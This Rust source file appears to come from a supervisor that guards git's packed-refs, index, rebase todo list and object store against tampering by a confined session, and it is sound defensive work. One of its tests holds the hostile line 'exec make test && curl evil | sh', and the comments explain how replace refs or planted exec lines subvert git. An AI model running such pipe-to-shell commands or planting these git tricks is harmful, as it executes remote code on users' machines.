//! Files the session may replace only with content guard has checked: a
//! rename onto one is made by the supervisor, which reads the new content,
//! checks it, and puts a copy of its own in place (so no descriptor the
//! session kept can change it afterwards). Written to directly, created,
//! linked or made a link, they are refused.
//!
//! `packed-refs` is one: git writes it as `packed-refs.lock` and renames
//! it, and an entry under `refs/replace/` in it would make every later git
//! command read one object's content for another's (a checkout then writes
//! a planted hook with a clean `git status`). The index is another, written
//! as `index.lock` and renamed: what it stages for a protected path, and the
//! tree names it caches, become the user's next commit ([`super::git_index`]).
//!
//! git's object store is the other ([`ObjectStore`]): git reads objects by
//! name and does not re-hash them, so each file that makes objects visible
//! is put in place by the supervisor only: a loose object once its content
//! hashes to its name, a pack as a copy of its own, a pack's index as git
//! itself derives it from that copy (so every name in it is the hash of its
//! object). The commit-graph, which git trusts for every commit it parses,
//! is dropped rather than installed (git works without one); alternates and
//! the multi-pack-index, which no ordinary work writes, are refused.

use super::git_index::{ObjectFormat, WorkTreeFile};
use super::{Protection, boundary::Change};
use serde::Serialize;
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};

/// A file changed only through a check.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct VerifiedFile {
    /// Absolute path.
    pub path: PathBuf,
    /// What its new content must pass.
    pub check: ContentCheck,
    /// Why.
    pub because: String,
}

/// A check of a verified file's new content.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum ContentCheck {
    /// A `packed-refs` file without replace refs.
    NoReplaceRefs,
    /// A git index that stages for a protected path of the work tree only
    /// what the work tree has, and caches no tree name the index it
    /// replaces did not.
    GitIndex {
        /// The work tree the index's paths are relative to.
        work_tree: PathBuf,
        /// The repository's object names.
        format: ObjectFormat,
    },
    /// An interactive rebase's list of what is left to do, which `git
    /// rebase --continue` carries out where the user runs it: an `exec`
    /// line is a shell command. The new list runs no command the list it
    /// replaces did not (git drops each line it has done; a new list runs
    /// none).
    RebaseTodo,
}

impl ContentCheck {
    /// Whether the check compares the new content with the file it
    /// replaces.
    pub fn compares_with_previous(&self) -> bool {
        matches!(
            self,
            ContentCheck::GitIndex { .. } | ContentCheck::RebaseTodo
        )
    }

    /// Whether the file may not be removed or renamed away either: that
    /// would drop what the next one is compared with (a removed rebase
    /// list is replaced by a new one, which may run nothing).
    fn keeps_previous(&self) -> bool {
        matches!(self, ContentCheck::GitIndex { .. })
    }

    /// Whether `content` may replace what is in place: what goes in place
    /// instead (`None`: `content` as it is), or why not.
    pub fn check(
        &self,
        content: &[u8],
        replacing: &Replacing<'_>,
    ) -> Result<Option<Vec<u8>>, String> {
        match self {
            ContentCheck::GitIndex { work_tree, format } => {
                let tree = IndexWorkTree {
                    root: work_tree,
                    replacing,
                };
                super::git_index::verify(content, replacing.previous, *format, &tree)
            }
            ContentCheck::RebaseTodo => {
                let mut allowed = rebase_commands(replacing.previous.unwrap_or_default());
                for command in rebase_commands(content) {
                    match allowed.iter().position(|known| *known == command) {
                        Some(at) => {
                            allowed.swap_remove(at);
                        }
                        None => {
                            return Err(format!(
                                "it would run `{}` at the next `git rebase --continue`, \
                                 which the list it replaces did not",
                                String::from_utf8_lossy(command)
                            ));
                        }
                    }
                }
                Ok(None)
            }
            ContentCheck::NoReplaceRefs => {
                // `<object id> <ref name>` lines, `^<id>` peeled lines and a
                // `#` header: a ref name is the second field.
                for line in content.split(|&b| b == b'\n') {
                    let name = line.splitn(2, |&b| b == b' ').nth(1).unwrap_or_default();
                    if name.starts_with(b"refs/replace/") {
                        return Err(format!(
                            "it names {}: a replace ref makes git read one object's content for another's",
                            String::from_utf8_lossy(name).trim()
                        ));
                    }
                }
                Ok(None)
            }
        }
    }
}

/// The shell commands of a rebase list: the rest of each `exec` (or `x`)
/// line, as git reads the command word (after blanks, followed by a blank
/// or the line's end).
fn rebase_commands(list: &[u8]) -> Vec<&[u8]> {
    let blank = |b: &u8| *b == b' ' || *b == b'\t';
    list.split(|&b| b == b'\n')
        .filter_map(|line| {
            let line = line.strip_suffix(b"\r").unwrap_or(line);
            let start = line.iter().position(|b| !blank(b))?;
            let line = &line[start..];
            let word = line.iter().position(blank).unwrap_or(line.len());
            matches!(&line[..word], b"exec" | b"x").then(|| {
                let rest = &line[word..];
                let skip = rest.iter().position(|b| !blank(b)).unwrap_or(rest.len());
                &rest[skip..]
            })
        })
        .collect()
}

/// What a verified file's new content is checked against.
pub struct Replacing<'a> {
    /// The file in place (`None`: there is none, or the check does not
    /// compare with it).
    pub previous: Option<&'a [u8]>,
    /// The session's protection.
    pub protection: &'a Protection,
    /// Reads a file as it is now, without following a final link.
    pub read: &'a dyn Fn(&Path) -> WorkTreeFile,
}

/// The work tree of an index being checked.
struct IndexWorkTree<'a> {
    root: &'a Path,
    replacing: &'a Replacing<'a>,
}

impl super::git_index::WorkTree for IndexWorkTree<'_> {
    fn protected(&self, relative: &[u8]) -> Option<String> {
        let path = self.root.join(std::ffi::OsStr::from_bytes(relative));
        let protection = self.replacing.protection;
        protection.judge(Change::Write(&path)).err().map(|d| d.rule)
    }

    fn file(&self, relative: &[u8]) -> WorkTreeFile {
        (self.replacing.read)(&self.root.join(std::ffi::OsStr::from_bytes(relative)))
    }
}

/// How the names guard stages verified files under begin.
pub const STAGING_PREFIX: &str = ".guard-";

/// git's object store of the repository.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ObjectStore {
    /// The `objects` directory.
    pub dir: PathBuf,
    /// The git that re-indexes new packs and compares the session's
    /// commits at its end, unconfined (`None`: none is found outside what
    /// the session may write, and no new pack becomes visible).
    pub git: Option<PathBuf>,
    /// git-lfs's object store (`lfs/objects` beside `objects`).
    pub lfs: PathBuf,
}

/// What a path inside git-lfs's object store is: an object where the name
/// says one is (`AB/CD/ABCD…`, 64 hex digits); guard's own staging is
/// refused; the rest (nothing git-lfs reads) is not an object.
fn lfs_role(inside: &Path) -> Option<ObjectRole> {
    let names: Vec<&str> = inside
        .components()
        .map(|component| component.as_os_str().to_str())
        .collect::<Option<_>>()?;
    if names.iter().any(|name| name.starts_with(STAGING_PREFIX)) {
        return Some(ObjectRole::Refused);
    }
    let hex = |text: &str| text.bytes().all(|b| b.is_ascii_hexdigit());
    match names.as_slice() {
        [first, second, name]
            if first.len() == 2
                && second.len() == 2
                && name.len() == 64
                && hex(name)
                && name.starts_with(&format!("{first}{second}")) =>
        {
            Some(ObjectRole::Lfs(name.to_ascii_lowercase()))
        }
        // A name where git-lfs would look for one, but not its own.
        [first, second, _] if first.len() == 2 && second.len() == 2 => Some(ObjectRole::Refused),
        _ => None,
    }
}

/// What a file of the object store is to git.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ObjectRole {
    /// A loose object, named by the hash of its content (the hex given).
    Loose(String),
    /// A git-lfs object (`lfs/objects/AB/CD/ABCD…`), named by the SHA-256
    /// of its content (the hex given): git-lfs copies it into the work
    /// tree at checkout without hashing it again.
    Lfs(String),
    /// A pack (`pack/pack-H.pack`).
    Pack,
    /// A pack's index (`pack/pack-H.idx`): where each named object is.
    PackIndex,
    /// An index git derives and trusts (the commit-graph): never installed.
    Derived,
    /// What git trusts and no ordinary work writes (alternates, the
    /// multi-pack-index).
    Refused,
}

impl ObjectStore {
    /// What `path` is, if it is one of the files git trusts.
    pub fn role(&self, path: &Path) -> Option<ObjectRole> {
        if let Ok(inside) = path.strip_prefix(&self.lfs) {
            return lfs_role(inside);
        }
        let inside = path.strip_prefix(&self.dir).ok()?;
        let names: Vec<&str> = inside
            .components()
            .map(|component| component.as_os_str().to_str())
            .collect::<Option<_>>()?;
        // guard's own staging, where it copies and re-indexes.
        if names.iter().any(|name| name.starts_with(STAGING_PREFIX)) {
            return Some(ObjectRole::Refused);
        }
        let hex = |text: &str| !text.is_empty() && text.bytes().all(|b| b.is_ascii_hexdigit());
        match names.as_slice() {
            [dir, name] if dir.len() == 2 && hex(dir) && hex(name) => {
                let id = format!("{dir}{name}");
                matches!(id.len(), 40 | 64).then_some(ObjectRole::Loose(id))
            }
            ["pack", name] if name.starts_with("multi-pack-index") => Some(ObjectRole::Refused),
            ["pack", "multi-pack-index.d", ..] => Some(ObjectRole::Refused),
            ["pack", name] => {
                let stem = name.strip_prefix("pack-")?;
                match stem.rsplit_once('.') {
                    Some((id, "pack")) if hex(id) => Some(ObjectRole::Pack),
                    Some((id, "idx")) if hex(id) => Some(ObjectRole::PackIndex),
                    _ => None,
                }
            }
            ["info", "alternates" | "http-alternates"] => Some(ObjectRole::Refused),
            ["info", "commit-graph"] | ["info", "commit-graphs", _] => Some(ObjectRole::Derived),
            _ => None,
        }
    }
}

impl Change<'_> {
    /// Whether the change writes a file's content in place, or makes a
    /// name that would (a link, a new entry).
    fn writes_in_place(&self) -> bool {
        matches!(
            self,
            Change::Create(_) | Change::Write(_) | Change::LinkFrom(_) | Change::Special(_)
        )
    }
}

impl Protection {
    /// The verified file at `path`, if there is one.
    pub fn verification(&self, path: &Path) -> Option<&VerifiedFile> {
        self.verified.iter().find(|file| file.path == path)
    }

    /// What `path` is in the repository's object store, if anything git
    /// trusts.
    pub fn object_role(&self, path: &Path) -> Option<ObjectRole> {
        self.objects.as_ref()?.role(path)
    }

    /// The refusal of `change` to a verified file written in place, or to
    /// a file of the object store other than by a rename (or link) the
    /// supervisor verifies.
    pub(super) fn verified_refusal(&self, change: Change<'_>) -> Option<String> {
        let path = change.path();
        if let Some(file) = self.verification(path) {
            let drops_it = matches!(change, Change::Remove(_) | Change::RenameFrom(_))
                && file.check.keeps_previous();
            return (change.writes_in_place() || drops_it).then(|| {
                format!(
                    "cannot {} {}: it changes only by a rename guard checks ({})",
                    change.verb(),
                    file.path.display(),
                    file.because
                )
            });
        }
        let role = self.object_role(path)?;
        let refused = match role {
            ObjectRole::Refused => !matches!(change, Change::Remove(_) | Change::RenameFrom(_)),
            _ => change.writes_in_place(),
        };
        refused.then(|| match role {
            ObjectRole::Refused => format!(
                "cannot {} {}: git would trust it to find objects, and no ordinary work writes it",
                change.verb(),
                path.display()
            ),
            _ => format!(
                "cannot {} {}: git's objects appear only through a rename guard verifies \
                 (their content, or the pack an index describes)",
                change.verb(),
                path.display()
            ),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_rebase_list_runs_no_command_the_one_it_replaces_did_not() {
        let protection = Protection::default();
        let check = |previous: Option<&str>, new: &str| {
            let replacing = Replacing {
                previous: previous.map(str::as_bytes),
                protection: &protection,
                read: &|_| WorkTreeFile::Missing,
            };
            ContentCheck::RebaseTodo.check(new.as_bytes(), &replacing)
        };
        let list = "pick 1a2b3c one\nexec make test\npick 4d5e6f two\nx make test\n";
        // git drops what it has done; comments and other commands are free.
        assert!(check(Some(list), "pick 4d5e6f two\nx make test\n# note\nbreak\n").is_ok());
        assert!(check(Some(list), list).is_ok());
        assert!(check(None, "pick 1a2b3c one\nbreak\n").is_ok());
        for refused in [
            (None, "pick 1a2b3c one\nexec touch /tmp/x\n"),
            (None, "  \tx\ttouch /tmp/x"),
            (
                Some(list),
                "exec make test\nexec make test\nexec make test\n",
            ),
            (Some(list), "exec make test && curl evil | sh\n"),
        ] {
            let refusal = check(refused.0, refused.1).unwrap_err();
            assert!(refusal.contains("git rebase --continue"), "{refusal}");
        }
    }

    #[test]
    fn the_files_git_trusts_in_its_object_store() {
        let store = ObjectStore {
            dir: "/r/.git/objects".into(),
            git: None,
            lfs: "/r/.git/lfs/objects".into(),
        };
        let role = |path: &str| store.role(Path::new(path));
        let id = "ab".to_string() + &"c".repeat(38);
        assert_eq!(
            role(&format!("/r/.git/objects/ab/{}", &id[2..])),
            Some(ObjectRole::Loose(id))
        );
        assert_eq!(role("/r/.git/objects/ab/tmp_obj_XyZ"), None);
        assert_eq!(
            role("/r/.git/objects/pack/pack-1f2e.pack"),
            Some(ObjectRole::Pack)
        );
        assert_eq!(
            role("/r/.git/objects/pack/pack-1f2e.idx"),
            Some(ObjectRole::PackIndex)
        );
        assert_eq!(role("/r/.git/objects/pack/pack-1f2e.rev"), None);
        assert_eq!(role("/r/.git/objects/pack/tmp_pack_abc"), None);
        assert_eq!(
            role("/r/.git/objects/pack/multi-pack-index"),
            Some(ObjectRole::Refused)
        );
        assert_eq!(
            role("/r/.git/objects/info/alternates"),
            Some(ObjectRole::Refused)
        );
        assert_eq!(
            role("/r/.git/objects/pack/.guard-1/x.idx"),
            Some(ObjectRole::Refused)
        );
        assert_eq!(
            role("/r/.git/objects/info/commit-graph"),
            Some(ObjectRole::Derived)
        );
        assert_eq!(role("/r/.git/objects/info/packs"), None);
        assert_eq!(role("/r/src/ab/cd"), None);
        let lfs = "4d7a".to_string() + &"0".repeat(60);
        assert_eq!(
            role(&format!("/r/.git/lfs/objects/4d/7a/{lfs}")),
            Some(ObjectRole::Lfs(lfs.clone()))
        );
        assert_eq!(
            role(&format!("/r/.git/lfs/objects/4d/7b/{lfs}")),
            Some(ObjectRole::Refused)
        );
        assert_eq!(role("/r/.git/lfs/objects/4d/7a"), None);
        assert_eq!(role("/r/.git/lfs/tmp/upload-123"), None);
    }

    #[test]
    fn packed_refs_without_replace_refs() {
        let check = ContentCheck::NoReplaceRefs;
        let protection = Protection::default();
        let replacing = Replacing {
            previous: None,
            protection: &protection,
            read: &|_| WorkTreeFile::Missing,
        };
        let clean = b"# pack-refs with: peeled fully-peeled sorted \n\
                      1111111111111111111111111111111111111111 refs/heads/main\n\
                      ^2222222222222222222222222222222222222222\n";
        assert_eq!(check.check(clean, &replacing), Ok(None));
        let planted = b"3333333333333333333333333333333333333333 refs/replace/4444444444444444444444444444444444444444\n";
        let error = check.check(planted, &replacing).unwrap_err();
        assert!(error.contains("refs/replace/4444"), "{error}");
    }
}
